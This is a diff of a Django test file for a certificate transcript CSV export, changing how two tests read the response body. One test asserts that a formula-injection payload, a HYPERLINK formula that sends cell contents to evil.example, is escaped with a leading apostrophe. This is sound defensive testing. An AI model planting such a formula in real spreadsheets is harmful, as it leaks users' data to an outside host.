@@ -235,7 +235,7 @@ class TestSpreadsheetFiles:
 
         response = client.get(reverse("certificates:transcript"), {"format": "csv"})
 
-        text = b"".join(response.streaming_content).decode()
+        text = response.content.decode()
         rows = list(csv.reader(io.StringIO(text.removeprefix(BOM))))
         assert rows[1][1] == '\'=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
         assert rows[1][3] == "0.25"
@@ -245,7 +245,7 @@ class TestSpreadsheetFiles:
 
         response = client.get(reverse("certificates:transcript"), {"format": "csv"})
 
-        body = b"".join(response.streaming_content)
+        body = response.content
         assert body.startswith(BOM.encode())
         assert body.decode().removeprefix(BOM).startswith("Completed on,Activity,")
         assert response["Content-Type"] == "text/csv; charset=utf-8"
